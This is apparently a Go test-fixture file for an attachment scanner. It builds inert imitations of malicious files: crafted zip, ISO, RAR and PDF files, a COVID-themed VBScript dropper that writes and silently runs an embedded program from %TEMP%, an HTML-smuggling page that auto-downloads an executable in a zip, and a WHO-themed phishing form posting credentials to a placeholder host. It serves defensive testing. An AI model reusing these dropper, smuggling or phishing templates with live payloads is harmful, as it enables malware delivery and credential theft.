package attach

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"crypto/aes"
	"crypto/hmac"
	"crypto/pbkdf2"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"io"
	"strings"
	"testing"
)

// Fixtures are built here rather than stored: they are small, harmless
// imitations of the real thing, and building them documents their layout.

// minimalPE returns a 1 KiB file with a DOS header, e_lfanew and a PE
// header for i386: enough to be typed as a Windows program; it does
// nothing and would not load.
func minimalPE(dll bool) []byte {
	b := make([]byte, 1024)
	copy(b, "MZ")
	b[2] = 0x90
	binary.LittleEndian.PutUint32(b[0x3C:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(b[0x84:], 0x14C)
	ch := uint16(0x0102)
	if dll {
		ch |= 0x2000
	}
	binary.LittleEndian.PutUint16(b[0x80+22:], ch)
	copy(b[0x200:], "harmless test fixture, not a program")
	return b
}

// lnkFile returns a Shell Link header ([MS-SHLLINK] 2.1) followed by
// zeros.
func lnkFile() []byte {
	b := make([]byte, 200)
	copy(b, lnkMagic)
	return b
}

// zipMember is one member for buildZip.
type zipMember struct {
	name     string
	data     []byte
	store    bool   // stored rather than deflated
	password string // encrypt with ZipCrypto (or AES when aes > 0)
	aes      int    // WinZip AES strength 1..3 (AE-2)
	local    string // a different name for the local header
	noCD     bool   // leave out of the central directory
}

// buildZip writes a zip by hand (APPNOTE 4.3), so that tests can make the
// encrypted, inconsistent and hostile archives that archive/zip will not.
func buildZip(t testing.TB, members ...zipMember) []byte {
	t.Helper()
	var out, cd bytes.Buffer
	count := 0
	for _, m := range members {
		method := uint16(8)
		body := m.data
		if m.store {
			method = 0
		} else {
			var c bytes.Buffer
			w, _ := flate.NewWriter(&c, flate.BestSpeed)
			w.Write(m.data)
			w.Close()
			body = c.Bytes()
		}
		crc := crc32.ChecksumIEEE(m.data)
		flags := uint16(0)
		var extra []byte
		hdrMethod := method
		if m.password != "" || m.aes > 0 {
			flags |= 1
			if m.aes > 0 {
				body = aesEncrypt(t, body, m.password, m.aes)
				hdrMethod = 99
				extra = make([]byte, 11)
				binary.LittleEndian.PutUint16(extra, 0x9901)
				binary.LittleEndian.PutUint16(extra[2:], 7)
				binary.LittleEndian.PutUint16(extra[4:], 2) // AE-2
				copy(extra[6:], "AE")
				extra[8] = byte(m.aes)
				binary.LittleEndian.PutUint16(extra[9:], method)
			} else {
				body = zipCryptoEncrypt(body, m.password, byte(crc>>24))
			}
		}
		usedCRC := crc
		if m.aes > 0 {
			usedCRC = 0 // AE-2 leaves the CRC out
		}
		localName := m.name
		if m.local != "" {
			localName = m.local
		}
		offset := out.Len()
		h := make([]byte, 30)
		copy(h, sigLocal)
		binary.LittleEndian.PutUint16(h[4:], 20)
		binary.LittleEndian.PutUint16(h[6:], flags)
		binary.LittleEndian.PutUint16(h[8:], hdrMethod)
		binary.LittleEndian.PutUint32(h[14:], usedCRC)
		binary.LittleEndian.PutUint32(h[18:], uint32(len(body)))
		binary.LittleEndian.PutUint32(h[22:], uint32(len(m.data)))
		binary.LittleEndian.PutUint16(h[26:], uint16(len(localName)))
		binary.LittleEndian.PutUint16(h[28:], uint16(len(extra)))
		out.Write(h)
		out.WriteString(localName)
		out.Write(extra)
		out.Write(body)
		if m.noCD {
			continue
		}
		count++
		c := make([]byte, 46)
		copy(c, sigCentral)
		binary.LittleEndian.PutUint16(c[4:], 20)
		binary.LittleEndian.PutUint16(c[6:], 20)
		binary.LittleEndian.PutUint16(c[8:], flags)
		binary.LittleEndian.PutUint16(c[10:], hdrMethod)
		binary.LittleEndian.PutUint32(c[16:], usedCRC)
		binary.LittleEndian.PutUint32(c[20:], uint32(len(body)))
		binary.LittleEndian.PutUint32(c[24:], uint32(len(m.data)))
		binary.LittleEndian.PutUint16(c[28:], uint16(len(m.name)))
		binary.LittleEndian.PutUint16(c[30:], uint16(len(extra)))
		binary.LittleEndian.PutUint32(c[42:], uint32(offset))
		cd.Write(c)
		cd.WriteString(m.name)
		cd.Write(extra)
	}
	cdOff := out.Len()
	out.Write(cd.Bytes())
	e := make([]byte, 22)
	copy(e, sigEnd)
	binary.LittleEndian.PutUint16(e[8:], uint16(count))
	binary.LittleEndian.PutUint16(e[10:], uint16(count))
	binary.LittleEndian.PutUint32(e[12:], uint32(cd.Len()))
	binary.LittleEndian.PutUint32(e[16:], uint32(cdOff))
	out.Write(e)
	return out.Bytes()
}

// zipCryptoEncrypt encrypts body with PKWARE's traditional encryption,
// using a fixed (test-only) encryption header ending in check.
func zipCryptoEncrypt(body []byte, password string, check byte) []byte {
	k := newZipCryptoKeys([]byte(password))
	hdr := []byte("ward-test-h")
	hdr = append(hdr, check)
	out := make([]byte, 0, 12+len(body))
	for _, p := range append(hdr, body...) {
		out = append(out, p^k.stream())
		k.update(p)
	}
	return out
}

// aesEncrypt encrypts body in the WinZip AES format with a fixed salt.
func aesEncrypt(t testing.TB, body []byte, password string, strength int) []byte {
	keyLen, saltLen := map[int][2]int{1: {16, 8}, 2: {24, 12}, 3: {32, 16}}[strength][0], map[int][2]int{1: {16, 8}, 2: {24, 12}, 3: {32, 16}}[strength][1]
	salt := bytes.Repeat([]byte{0x5A}, saltLen)
	dk, err := pbkdf2.Key(sha1.New, password, salt, 1000, 2*keyLen+2)
	if err != nil {
		t.Fatal(err)
	}
	block, _ := aes.NewCipher(dk[:keyLen])
	enc := make([]byte, len(body))
	var ctr, ks [16]byte
	for i := 0; i < len(body); i += 16 {
		binary.LittleEndian.PutUint64(ctr[:], uint64(i/16+1))
		block.Encrypt(ks[:], ctr[:])
		for j := i; j < min(i+16, len(body)); j++ {
			enc[j] = body[j] ^ ks[j-i]
		}
	}
	mac := hmac.New(sha1.New, dk[keyLen:2*keyLen])
	mac.Write(enc)
	out := append(append(append([]byte{}, salt...), dk[2*keyLen:]...), enc...)
	return append(out, mac.Sum(nil)[:10]...)
}

// nestedZip wraps inner in n levels of zip, named level-1.zip ... .
func nestedZip(t testing.TB, inner zipMember, n int) []byte {
	data := buildZip(t, inner)
	for i := n - 1; i >= 1; i-- {
		data = buildZip(t, zipMember{name: fmt.Sprintf("level-%d.zip", i+1), data: data})
	}
	return data
}

func gzipOf(name string, data []byte) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Name = name
	w.Write(data)
	w.Close()
	return b.Bytes()
}

func tarOf(files map[string][]byte, order ...string) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, n := range order {
		w.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg, Format: tar.FormatPAX})
		w.Write(files[n])
	}
	w.Close()
	return b.Bytes()
}

// isoFile is one file of buildISO.
type isoFile struct {
	name string // ISO 9660 name with version, e.g. "INVOICE.EXE;1"
	data []byte
}

// buildISO writes a minimal ISO 9660 image (ECMA-119): 16 empty system
// sectors, a primary volume descriptor, a terminator, the root directory
// in sector 18 and each file in its own sectors after it.
func buildISO(files ...isoFile) []byte {
	const bs = 2048
	sectors := 19
	var extents []int
	for _, f := range files {
		extents = append(extents, sectors)
		sectors += (len(f.data) + bs - 1) / bs
		if len(f.data) == 0 {
			sectors++
		}
	}
	img := make([]byte, sectors*bs)
	rec := func(lba, size int, dir bool, name []byte) []byte {
		n := 33 + len(name)
		if n%2 == 1 {
			n++
		}
		r := make([]byte, n)
		r[0] = byte(n)
		binary.LittleEndian.PutUint32(r[2:], uint32(lba))
		binary.BigEndian.PutUint32(r[6:], uint32(lba))
		binary.LittleEndian.PutUint32(r[10:], uint32(size))
		binary.BigEndian.PutUint32(r[14:], uint32(size))
		if dir {
			r[25] = 2
		}
		r[32] = byte(len(name))
		copy(r[33:], name)
		return r
	}
	pvd := img[16*bs:]
	pvd[0] = 1
	copy(pvd[1:], "CD001")
	pvd[6] = 1
	binary.LittleEndian.PutUint16(pvd[128:], bs)
	copy(pvd[156:], rec(18, bs, true, []byte{0}))
	term := img[17*bs:]
	term[0] = 255
	copy(term[1:], "CD001")
	dir := img[18*bs : 19*bs]
	p := copy(dir, rec(18, bs, true, []byte{0}))
	p += copy(dir[p:], rec(18, bs, true, []byte{1}))
	for i, f := range files {
		p += copy(dir[p:], rec(extents[i], len(f.data), false, []byte(f.name)))
		copy(img[extents[i]*bs:], f.data)
	}
	return img
}

// rar4Names returns a RAR 4 archive header listing the names, with empty
// file data (enough for name listing; not a valid archive to extract).
func rar4Fixture(names ...string) []byte {
	b := append([]byte{}, rar4Magic...)
	b = append(b, 0, 0, 0x73, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0) // main header
	for _, n := range names {
		h := make([]byte, 32+len(n))
		h[2] = 0x74
		binary.LittleEndian.PutUint16(h[5:], uint16(len(h)))
		binary.LittleEndian.PutUint16(h[26:], uint16(len(n)))
		copy(h[32:], n)
		b = append(b, h...)
	}
	return b
}

// rar5Names returns a RAR 5 archive with file headers for the names.
func rar5Fixture(names ...string) []byte {
	b := append([]byte{}, rar5Magic...)
	b = append(b, 0, 0, 0, 0, 3, 1, 0, 0) // main archive header: size 3, type 1, flags 0, archive flags 0
	for _, n := range names {
		body := []byte{2, 0, 0, 5, 0, 0, 0, byte(len(n))} // type 2, flags, file flags, size 5, attrs, comp, os, name len
		body = append(body, n...)
		b = append(b, 0, 0, 0, 0, byte(len(body)))
		b = append(b, body...)
	}
	return b
}

// pdfDoc assembles a PDF from object bodies (numbered from 1), with a
// cross-reference table good enough for readers; the scanner does not
// need it.
func pdfDoc(objs ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	var offs []int
	for i, o := range objs {
		offs = append(offs, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	x := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, x)
	return b.Bytes()
}

// flateStream returns a PDF stream object body with data FlateDecoded.
func flateStream(dict string, data []byte) string {
	var c bytes.Buffer
	w := zlib.NewWriter(&c)
	w.Write(data)
	w.Close()
	return fmt.Sprintf("<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", dict, c.Len(), c.String())
}

// vbsDropper imitates the shape of CORONAVIRUS_COVID-19.vbs: a VBScript
// that writes an embedded program to %TEMP% and starts it. The payload is
// minimalPE, which does nothing.
func vbsDropper() []byte {
	payload := base64.StdEncoding.EncodeToString(minimalPE(false))
	var lines []string
	for i := 0; i < len(payload); i += 76 {
		lines = append(lines, `    "`+payload[i:min(i+76, len(payload))]+`" & _`)
	}
	return []byte(`' Informacion sobre COVID-19 - harmless test imitation
On Error Resume Next
Dim shell, fso, stream, path, data
Set shell = CreateObject("WScript.Shell")
path = shell.ExpandEnvironmentStrings("%TEMP%") & "\covid.exe"
data = _
` + strings.Join(lines, "\n") + `
    ""
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write DecodeBase64(data)
stream.SaveToFile path, 2
shell.Run path, 0, False
`)
}

// smugglingPage imitates an HTML smuggling lure: the payload (a zip with a
// program inside) is carried as base64 and saved with msSaveOrOpenBlob or
// a generated download link.
func smugglingPage(t testing.TB) []byte {
	z := buildZip(t, zipMember{name: "Covid19_Results.exe", data: minimalPE(false)})
	b64 := base64.StdEncoding.EncodeToString(z)
	return []byte(`<!DOCTYPE html><html><head><title>Your test results</title></head><body>
<p>Loading your COVID-19 test results...</p>
<script>
var d = "` + b64 + `";
var bin = atob(d); var arr = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { arr[i] = bin.charCodeAt(i); }
var blob = new Blob([arr], {type: "application/octet-stream"});
if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "results.zip"); }
else { var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "results.zip"; a.click(); }
</script></body></html>`)
}

// loginPage imitates a credential phish imitating a webmail login.
const loginPage = `<html><head><title>WHO webmail</title></head><body>
<img src="https://who-int.example.net/logo.png">
<form method="POST" action="https://collect.example.org/post.php">
<input type="email" name="user"><input type="password" name="pass">
<button>Sign in</button></form></body></html>`

// stdZip wraps archive/zip's writer, which streams sizes into data
// descriptors after each member.
type stdZip struct{ w *zip.Writer }

func newStdZip(w io.Writer) *stdZip { return &stdZip{zip.NewWriter(w)} }

func (s *stdZip) add(name string, data []byte) {
	f, _ := s.w.Create(name)
	f.Write(data)
}

func (s *stdZip) close() { s.w.Close() }

func sha256hex(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}
